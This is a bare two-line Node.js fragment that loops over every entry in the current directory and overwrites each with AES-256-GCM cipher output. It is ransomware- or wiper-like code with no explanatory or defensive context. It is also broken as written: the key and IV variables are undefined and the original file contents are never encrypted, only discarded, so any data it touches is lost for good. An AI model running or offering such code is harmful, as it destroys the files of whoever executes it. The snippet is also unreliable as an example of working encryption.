const crypto = require('crypto'), fs = require('fs');
for (const f of fs.readdirSync('.')) fs.writeFileSync(f, crypto.createCipheriv('aes-256-gcm', k, iv).final());
